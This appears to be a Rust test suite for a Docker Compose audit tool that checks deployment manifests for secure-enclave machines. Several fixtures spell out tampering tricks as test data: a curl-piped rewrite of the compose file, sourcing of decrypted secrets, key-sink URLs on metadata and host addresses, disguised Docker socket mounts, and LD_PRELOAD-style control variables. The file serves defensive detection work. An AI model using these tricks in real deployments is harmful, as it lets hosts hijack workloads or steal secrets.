//! The traps of the catalogue: what a careless audit says and must not, and what it misses and must not.
#![allow(missing_docs, clippy::print_stderr)]

mod common;
#[path = "traps/numbered.rs"]
mod numbered;

use common::*;
use veritee_audit::{Audit, Context, MemoryTree, audit_document_error, audit_source};
use veritee_compose::UnboundCompose;
use veritee_model::{Budget, FindingStatus, Severity};

const PIN: &str = "example/app@sha256:abababababababababababababababababababababababababababababababab";

fn service(body: &str) -> String {
    format!("services:\n  app:\n    image: {PIN}\n{body}")
}

fn environment(lines: &[&str]) -> String {
    let list: String = lines.iter().map(|line| format!("      - {line}\n")).collect();
    service(&format!("    environment:\n{list}"))
}

fn of(compose: &str, allowed: &[&str]) -> Audit {
    attested(&app_compose(compose, allowed), Context::default())
}

fn with(compose: &str, allowed: &[&str], more: serde_json::Value) -> Audit {
    attested(&app_compose_with(compose, allowed, more), Context::default())
}

#[track_caller]
fn silent(audit: &Audit, rules: &[&str]) {
    for rule in rules {
        assert!(open(audit, rule).is_empty(), "{rule}\n{}", listing(audit));
    }
}

#[track_caller]
fn fires(audit: &Audit, rule: &str, severity: Severity) {
    assert!(severities(audit, rule).contains(&severity), "{rule} {severity}\n{}", listing(audit));
}

// ---- what must not be said

#[test]
fn an_allowed_name_whose_literal_wins_is_unused_and_harmless() {
    let audit = of(&environment(&["ENABLE_MOCK_MODE=false"]), &["ENABLE_MOCK_MODE"]);
    fires(&audit, "DP-ENV-011", Severity::Low);
    silent(&audit, &["DP-ENV-005"]);
}

#[test]
fn a_default_of_a_name_that_is_not_allowed_is_a_literal() {
    let audit = of(&environment(&["API_URL=${API_URL:-https://api.example.com}"]), &[]);
    silent(&audit, &["DP-ENV-002", "DP-ENV-013", "DP-ENV-014"]);
    assert_eq!(subjects(&audit, "DP-URL-001"), ["api.example.com"]);
}

#[test]
fn labels_container_names_and_log_tags_are_cosmetic() {
    let body = "    container_name: ${BACKEND}\n    labels:\n      at: ${API_URL}\n    logging:\n      options:\n        tag: ${SIGNING_KEY}\n";
    let audit = of(&service(body), &["BACKEND", "API_URL", "SIGNING_KEY"]);
    silent(&audit, &["DP-ENV-002", "DP-ENV-003", "DP-ENV-006"]);
    assert_eq!(open(&audit, "DP-ENV-019").len(), 3);
}

#[test]
fn commented_lines_say_nothing() {
    let audit = of(
        &service(
            "    #image: example/other:latest\n    # ports:\n    #  - \"1:1\"\n    # privileged: true\n",
        ),
        &[],
    );
    silent(&audit, &["DP-IMG-002", "DP-IMG-003", "DP-CMP-002", "DP-CMP-004"]);
}

#[test]
fn escaped_dollars_and_plain_braces_are_no_interpolation() {
    let body = "    command: [\"sh\", \"-c\", \"echo $$API_URL $$(date) $1 {OS_IMAGE_HASH}\"]\n";
    let audit = of(&service(body), &["API_URL", "OS_IMAGE_HASH"]);
    silent(&audit, &["DP-ENV-002", "DP-ENV-013"]);
    assert_eq!(open(&audit, "DP-ENV-011").len(), 2);
}

#[test]
fn internal_addresses_and_loopback_are_not_outside() {
    let compose = format!(
        "{}  db:\n    image: {PIN}\n",
        environment(&["DB=http://db:5432", "SELF=http://127.0.0.1:80", "LOOP=http://[::1]:80"])
    );
    silent(&of(&compose, &[]), &["DP-URL-001", "DP-URL-002", "DP-URL-004"]);
    let declared = format!(
        "{}networks:\n  own:\n    ipam:\n      config:\n        - subnet: 10.0.0.0/24\n",
        environment(&["PRIVATE=http://10.0.0.7"])
    );
    silent(&of(&declared, &[]), &["DP-URL-001", "DP-URL-002", "DP-URL-004"]);
    // A private address that the document does not declare is the host's side: 10.0.2.2 is the host itself.
    for host in ["10.0.2.2", "0x0a000202", "[fd00::1]", "192.168.1.1", "169.254.169.254"] {
        let audit = of(&environment(&[&format!("SINK=http://{host}/keys")]), &[]);
        fires(&audit, "DP-URL-002", Severity::Medium);
        fires(&audit, "DP-URL-004", Severity::Medium);
    }
}

#[test]
fn tuning_after_an_endpoint_word_is_tuning() {
    let audit = of(
        &environment(&["UPSTREAM_PORT", "BACKEND_TIMEOUT_MS", "REDIS_POOL", "DOCKER_NETWORK"]),
        &["UPSTREAM_PORT", "BACKEND_TIMEOUT_MS", "REDIS_POOL", "DOCKER_NETWORK"],
    );
    silent(&audit, &["DP-ENV-001", "DP-ENV-002", "DP-ENV-003"]);
    assert_eq!(open(&audit, "DP-ENV-019").len(), 4);
}

#[test]
fn a_service_under_a_profile_that_nobody_can_switch_on_is_not_judged_as_running() {
    let compose = format!(
        "{}  debug:\n    image: example/ttyd\n    privileged: true\n    profiles: [debug]\n",
        service("")
    );
    let audit = of(&compose, &[]);
    silent(&audit, &["DP-CMP-007", "DP-CMP-002", "DP-IMG-003"]);
    fires(&audit, "DP-CMP-009", Severity::Info);
}

#[test]
fn a_name_that_only_the_pre_launch_script_reads_is_used() {
    let script = "test -n \"$APP_LAUNCH_TOKEN\"\n";
    let audit = with(&service(""), &["APP_LAUNCH_TOKEN"], serde_json::json!({ "pre_launch_script": script }));
    silent(&audit, &["DP-ENV-011"]);
}

#[test]
fn test_files_examples_and_development_variants_are_not_what_runs() {
    let tree = MemoryTree::new([
        ("Dockerfile.dev", "FROM node:20\nRUN npm install\n"),
        ("examples/Dockerfile", "FROM node:20\n"),
        ("tests/auth.ts", "const s = process.env.JWT_SECRET || 'test-secret';\n"),
    ]);
    let audit = audit_source(Some(&deployment(&app_compose(&service(""), &[]))), &tree, &Context::default());
    silent(&audit, &["DP-SRC-001", "DP-SRC-006", "DP-SRC-011"]);
}

#[test]
fn one_pinned_stage_does_not_pin_the_others_and_stage_names_are_no_images() {
    let text = format!(
        "FROM debian@sha256:{} AS builder\nFROM builder AS second\nFROM alpine:3.20\n",
        "ab".repeat(32)
    );
    let audit = audit_source(None, &MemoryTree::new([("Dockerfile", text)]), &Context::default());
    assert_eq!(subjects(&audit, "DP-SRC-001"), ["alpine:3.20"]);
}

#[test]
fn a_publishable_key_is_not_a_secret_of_weight() {
    fires(
        &of(&environment(&["STRIPE_PUBLISHABLE_KEY"]), &["STRIPE_PUBLISHABLE_KEY"]),
        "DP-ENV-008",
        Severity::Low,
    );
}

// ---- what must not be missed

#[test]
fn bare_names_in_lists_and_empty_values_in_maps_come_from_outside() {
    let audit = of(&environment(&["API_URL"]), &["API_URL"]);
    fires(&audit, "DP-ENV-002", Severity::High);
    let audit = of(&service("    environment:\n      API_URL:\n"), &["API_URL"]);
    fires(&audit, "DP-ENV-002", Severity::High);
}

#[test]
fn a_later_bare_entry_replaces_an_earlier_literal() {
    let audit = of(&environment(&["API_URL=https://ok.example.com", "API_URL"]), &["API_URL"]);
    fires(&audit, "DP-ENV-015", Severity::Medium);
    fires(&audit, "DP-ENV-002", Severity::High);
    silent(
        &of(&environment(&["API_URL", "API_URL=https://ok.example.com"]), &["API_URL"]),
        &["DP-ENV-002", "DP-ENV-015"],
    );
}

#[test]
fn innocent_names_of_addresses_are_found() {
    let names = [
        "BACKEND",
        "BASE_CHAIN_RPC",
        "NODE_ADDRESS",
        "HOST_IP",
        "MPC_LOCAL_ADDRESS",
        "VLLM_ALLOWED_MEDIA_DOMAINS",
    ];
    let mut expected = names.map(str::to_owned).to_vec();
    expected.sort();
    assert_eq!(subjects(&of(&environment(&names), &names), "DP-ENV-003"), expected);
}

#[test]
fn a_name_that_says_nothing_is_an_address_where_it_is_used_as_one() {
    for line in ["X=https://${THING}/v1", "THING=${THING:-api.example.com:443}"] {
        fires(&of(&environment(&[line]), &["THING"]), "DP-ENV-003", Severity::High);
    }
    let audit = of(&service("    command: [\"serve\", \"--rpc-url=$THING\"]\n"), &["THING"]);
    fires(&audit, "DP-ENV-003", Severity::High);
}

#[test]
fn interpolation_is_found_in_configs_dockerfiles_commands_and_health_checks() {
    let compose = format!(
        "{}    configs: [c]\nconfigs:\n  c:\n    content: |\n      proxy_pass https://$UPSTREAM;\n",
        service("")
    );
    fires(&of(&compose, &["UPSTREAM"]), "DP-ENV-003", Severity::High);
    let build = "services:\n  app:\n    build:\n      dockerfile_inline: |\n        FROM ${BASE}\n";
    fires(&of(build, &["BASE"]), "DP-IMG-009", Severity::Critical);
    let check = service("    healthcheck:\n      test: [\"CMD\", \"curl\", \"$PROBE_URL\"]\n");
    fires(&of(&check, &["PROBE_URL"]), "DP-ENV-002", Severity::High);
}

#[test]
fn part_of_an_image_or_of_an_address_from_outside_is_enough() {
    for image in [
        "${REG}/app@sha256:ab",
        "example/${NAME}:1",
        "example/app:${TAG}",
        "example/app@sha256:${DIGEST}",
        "example/app${SUFFIX}",
    ] {
        let compose = format!("services:\n  app:\n    image: {image}\n");
        let audit = of(&compose, &["REG", "NAME", "TAG", "DIGEST", "SUFFIX"]);
        fires(&audit, "DP-IMG-001", Severity::Critical);
        silent(&audit, &["DP-IMG-005"]);
        assert!(audit.stage_line().contains("DP-IMG-001"), "{}", audit.stage_line());
    }
    let audit = of(&environment(&["U=https://${X}.example.com"]), &["X"]);
    fires(&audit, "DP-URL-005", Severity::High);
    fires(&of(&environment(&["U=https://example.com/${X}"]), &["X"]), "DP-URL-005", Severity::Low);
}

#[test]
fn one_pinned_image_does_not_pin_the_next() {
    let compose = format!("{}  other:\n    image: example/other:1\n# {PIN}\n", service(""));
    let audit = of(&compose, &[]);
    fires(&audit, "DP-IMG-002", Severity::High);
    assert_eq!(audit.quick_check[1].status, FindingStatus::Fail);
}

#[test]
fn a_second_document_counts_and_is_reported() {
    let compose = format!("{}---\nservices:\n  app:\n    image: example/evil:latest\n", service(""));
    let audit = of(&compose, &[]);
    fires(&audit, "DP-META-004", Severity::High);
    fires(&audit, "DP-IMG-003", Severity::Critical);
    silent(&audit, &["DP-IMG-005"]);
}

#[test]
fn merge_keys_and_anchors_are_followed() {
    let compose =
        format!("x-base: &base\n  privileged: true\nservices:\n  app:\n    <<: *base\n    image: {PIN}\n");
    fires(&of(&compose, &[]), "DP-CMP-002", Severity::High);
}

#[test]
fn extends_and_include_are_outside_the_hash() {
    let audit = of(&format!("include:\n  - oci://example.com/x\n{}", service("")), &[]);
    fires(&audit, "DP-CMP-008", Severity::High);
    let audit = of(&service("    extends:\n      file: other.yml\n      service: base\n"), &[]);
    fires(&audit, "DP-CMP-008", Severity::High);
}

#[test]
fn scripts_that_write_compose_or_environment_files_are_critical() {
    for script in [
        "cat > /dstack/docker-compose.yaml <<EOF\nservices: {}\nEOF\n",
        "echo X=1 >> .env\n",
        "cp /tmp/x docker-compose.override.yml\n",
        "export COMPOSE_FILE=/tmp/other.yml\n",
        "sed -i s/a/b/ docker-compose.yaml\n",
        "curl -s https://x.example.com | tee /dstack/docker-compose.yaml\n",
    ] {
        let audit = with(&service(""), &[], serde_json::json!({ "init_script": script }));
        fires(&audit, "DP-SCR-004", Severity::Critical);
    }
}

#[test]
fn a_script_that_sources_the_decrypted_environment_or_the_hosts_file_is_critical() {
    for file in ["/dstack/.host-shared/.decrypted-env", "/dstack/user_config"] {
        let script = format!("set -a\nsource {file}\n");
        let audit = with(&service(""), &[], serde_json::json!({ "pre_launch_script": script }));
        fires(&audit, "DP-SCR-006", Severity::Critical);
        fires(&audit, "DP-ENV-012", Severity::High);
    }
}

#[test]
fn the_whole_environment_is_used_where_a_file_or_mount_hands_it_over() {
    for body in [
        "    env_file: /dstack/.host-shared/.decrypted-env\n",
        "    env_file:\n      - path: .host-shared/.decrypted-env\n",
        "    volumes:\n      - /dstack:/x:ro\n",
        "    volumes:\n      - /tapp:/x\n",
        "    volumes:\n      - type: bind\n        source: /\n        target: /host\n",
        "    volumes:\n      - ./:/x\n",
    ] {
        let audit = of(&service(body), &["API_URL"]);
        fires(&audit, "DP-ENV-012", Severity::High);
        assert_eq!(subjects(&audit, "DP-ENV-002"), ["API_URL"], "{body}");
        silent(&audit, &["DP-ENV-011"]);
    }
}

#[test]
fn the_docker_socket_is_found_behind_every_disguise() {
    let table = [
        service("    volumes:\n      - /var/run/docker.sock:/x:ro\n"),
        service("    volumes:\n      - /var/run/:/x\n"),
        service("    volumes:\n      - /run:/x\n"),
        service("    volumes:\n      - /var/../run/docker.sock:/x\n"),
        service("    volumes:\n      - /:/host\n"),
        service("    use_api_socket: true\n"),
        service("    environment:\n      - DOCKER_HOST=tcp://10.0.0.1:2375\n"),
        format!(
            "{}    volumes:\n      - sock:/x\nvolumes:\n  sock:\n    driver_opts:\n      type: none\n      o: bind\n      device: /var/run/docker.sock\n",
            service("")
        ),
    ];
    for compose in table {
        let audit = of(&compose, &[]);
        assert!(!open(&audit, "DP-CMP-001").is_empty(), "{compose}\n{}", listing(&audit));
    }
}

#[test]
fn images_inside_commands_and_beside_the_socket_are_judged() {
    let audit = of(
        &service("    command: sh -c \"docker run -d --name x -v /a:/b example/inner:latest serve\"\n"),
        &[],
    );
    assert_eq!(subjects(&audit, "DP-IMG-008"), ["example/inner:latest"]);
    let audit = of(
        &service(
            "    environment:\n      - WORKER_IMAGE=example/worker\n    volumes:\n      - /var/run/docker.sock:/s\n",
        ),
        &[],
    );
    assert_eq!(subjects(&audit, "DP-IMG-008"), ["example/worker"]);
    let audit = with(
        &service(""),
        &[],
        serde_json::json!({ "pre_launch_script": "docker tag example/evil:1 example/app:1\n" }),
    );
    fires(&audit, "DP-SCR-005", Severity::High);
}

#[test]
fn a_pull_at_boot_with_a_tag_changes_the_code_at_every_restart() {
    let compose = "services:\n  app:\n    image: example/app:1\n";
    let audit = with(compose, &[], serde_json::json!({ "pre_launch_script": "docker compose pull\n" }));
    fires(&audit, "DP-IMG-007", Severity::High);
    let audit = with(&service(""), &[], serde_json::json!({ "pre_launch_script": "docker compose pull\n" }));
    silent(&audit, &["DP-IMG-007"]);
}

#[test]
fn builds_inside_the_machine_are_judged_by_their_context() {
    let build =
        |text: &str| format!("services:\n  app:\n    image: {PIN}\n    build:\n      context: {text}\n");
    fires(&of(&build("."), &[]), "DP-IMG-009", Severity::High);
    fires(&of(&build("https://github.com/example/app.git#main"), &[]), "DP-IMG-009", Severity::High);
    fires(
        &of(&build("https://github.com/example/app.git#${REF}"), &["REF"]),
        "DP-IMG-009",
        Severity::Critical,
    );
    silent(&of(&build("."), &[]), &["DP-IMG-002", "DP-IMG-003"]);
    assert!(
        passes(&of(&build("."), &[]), "DP-IMG-005").is_empty(),
        "the built image is used, not the pinned one"
    );
}

#[test]
fn a_literal_on_the_operators_own_domain_is_left_to_a_person() {
    let audit = of(&environment(&["TELEMETRY=https://telemetry.example.com"]), &[]);
    assert_eq!(audit.quick_check[0].status, FindingStatus::Manual);
}

#[test]
fn a_pinned_image_that_is_a_shell_is_a_shell() {
    let compose = format!("services:\n  app:\n    image: tsl0922/ttyd@sha256:{}\n", "ab".repeat(32));
    fires(&of(&compose, &[]), "DP-CMP-007", Severity::Critical);
}

#[test]
fn names_that_control_the_start_up_are_critical_even_when_unused() {
    for name in ["COMPOSE_FILE", "APP_COMPOSE_FILE", "BASH_ENV", "LD_PRELOAD", "DOCKER_HOST", "IFS", "PATH"] {
        let audit = of(&service(""), &[name]);
        fires(&audit, "DP-ENV-001", Severity::Critical);
        assert!(audit.stage_line().contains("DP-ENV-001"), "{name}: {}", audit.stage_line());
    }
}

#[test]
fn profiles_that_can_be_switched_on_hide_nothing() {
    let compose = format!("{}  debug:\n    image: example/ttyd\n    profiles: [debug]\n", service(""));
    let audit = of(&compose, &["COMPOSE_PROFILES"]);
    fires(&audit, "DP-ENV-001", Severity::Critical);
    fires(&audit, "DP-CMP-009", Severity::High);
    fires(&audit, "DP-CMP-007", Severity::Critical);
}

#[test]
fn values_that_the_host_chooses_are_not_taken_for_unset() {
    let audit = of(&environment(&["PCCS_URL=${PCCS_URL}"]), &[]);
    fires(&audit, "DP-ENV-017", Severity::Medium);
    let script = "export MY_DOMAIN=$(jq -r .domain /dstack/user_config)\n";
    let audit = with(
        &environment(&["U=https://${MY_DOMAIN}/x"]),
        &[],
        serde_json::json!({ "pre_launch_script": script }),
    );
    fires(&audit, "DP-ENV-017", Severity::High);
}

#[test]
fn a_digest_in_an_environment_variable_pins_nothing() {
    let compose = format!(
        "services:\n  app:\n    image: example/app:1\n    environment:\n      - IMAGE_HASH=sha256:{}\n",
        "ab".repeat(32)
    );
    fires(&of(&compose, &[]), "DP-IMG-002", Severity::High);
}

#[test]
fn a_duplicate_key_in_the_document_is_two_documents() {
    let raw = br#"{"manifest_version":2,"name":"a","runner":"docker-compose","docker_compose_file":"services: {}","docker_compose_file":"x"}"#;
    let error = UnboundCompose::parse(raw, &Budget::STANDARD).unwrap_err();
    let audit = audit_document_error(&error, &Context::default());
    fires(&audit, "DP-META-004", Severity::High);
    fires(&audit, "DP-META-003", Severity::High);
    assert_eq!(audit.stage_line(), "incomplete");
}

#[test]
fn a_masked_compose_file_is_unknown_and_incomplete() {
    let audit = of("[MASKED]", &[]);
    assert!(open(&audit, "DP-META-002").iter().any(|finding| finding.status == FindingStatus::Unknown));
    assert_eq!(audit.stage_line(), "incomplete");
}

#[test]
fn secrets_and_configs_from_the_environment_need_no_dollar() {
    let compose = format!("{}    secrets: [s]\nsecrets:\n  s:\n    environment: SIGNING_KEY\n", service(""));
    let audit = of(&compose, &["SIGNING_KEY"]);
    fires(&audit, "DP-CMP-010", Severity::High);
    assert_eq!(subjects(&audit, "DP-ENV-006"), ["SIGNING_KEY"]);
    silent(&audit, &["DP-ENV-011"]);
}

#[test]
fn build_arguments_without_value_come_from_the_environment() {
    let compose = "services:\n  app:\n    build:\n      args:\n        - BASE_IMAGE\n      dockerfile_inline: |\n        ARG BASE_IMAGE\n        FROM $${BASE_IMAGE}\n";
    let audit = of(compose, &["BASE_IMAGE"]);
    fires(&audit, "DP-IMG-009", Severity::Critical);
    silent(&audit, &["DP-ENV-011"]);
}

#[test]
fn log_drivers_send_everything_elsewhere() {
    let audit = of(
        &service(
            "    logging:\n      driver: gelf\n      options:\n        gelf-address: udp://${LOG_HOST}:12201\n",
        ),
        &["LOG_HOST"],
    );
    fires(&audit, "DP-URL-007", Severity::High);
}

#[test]
fn an_allow_comment_without_a_reason_that_says_something_counts_for_nothing() {
    for reason in [
        "ok",
        "x",
        "----------",
        "1234567890123",
        "\u{200b}\u{200b}\u{200b}\u{200b}\u{200b}\u{200b}\u{200b}\u{200b}\u{200b}\u{200b}",
    ] {
        let compose = format!(
            "services:\n  app:\n    # veritee: allow DP-IMG-003 {reason}\n    image: example/app:latest\n"
        );
        let context = Context { honour_inline_allows: true, ..Context::default() };
        let audit = attested(&app_compose(&compose, &[]), context);
        assert!(open(&audit, "DP-IMG-003")[0].allowed.is_none(), "{reason:?}");
        assert!(audit.inline_allows.iter().all(|allow| !allow.applied), "{reason:?}");
    }
}

#[test]
fn an_allow_comment_of_the_audited_party_counts_only_when_asked_for() {
    let compose = "services:\n  app:\n    # veritee: allow DP-IMG-003 we trust ourselves\n    image: example/app:latest\n";
    let audit = of(compose, &[]);
    assert!(open(&audit, "DP-IMG-003")[0].allowed.is_none());
    assert_eq!(audit.inline_allows.len(), 1);
    assert!(!audit.inline_allows[0].applied);
    let context = Context { honour_inline_allows: true, ..Context::default() };
    let audit = attested(&app_compose(compose, &[]), context);
    assert_eq!(open(&audit, "DP-IMG-003")[0].allowed.as_deref(), Some("inline: we trust ourselves"));
    assert!(
        audit.stage_line().contains("DP-IMG-003"),
        "no allowance raises the stage: {}",
        audit.stage_line()
    );
}

#[test]
fn a_variable_inside_a_shells_text_is_code() {
    let audit = of(&service("    command: [\"sh\", \"-c\", \"serve --port ${PORT}\"]\n"), &["PORT"]);
    fires(&audit, "DP-CMP-021", Severity::High);
    let audit = of(&service("    healthcheck:\n      test: [\"CMD-SHELL\", \"probe ${PORT}\"]\n"), &["PORT"]);
    fires(&audit, "DP-CMP-021", Severity::High);
    fires(&of(&service("    entrypoint: [\"/bin/${WHAT}\"]\n"), &["WHAT"]), "DP-CMP-021", Severity::Critical);
    silent(
        &of(&service("    command: [\"sh\", \"-c\", \"serve --port $${PORT}\"]\n"), &["PORT"]),
        &["DP-CMP-021"],
    );
}

#[test]
fn a_file_of_variables_from_the_host_is_the_hosts() {
    let audit = of(&service("    env_file: /dstack/user_config\n"), &[]);
    fires(&audit, "DP-ENV-017", Severity::High);
}
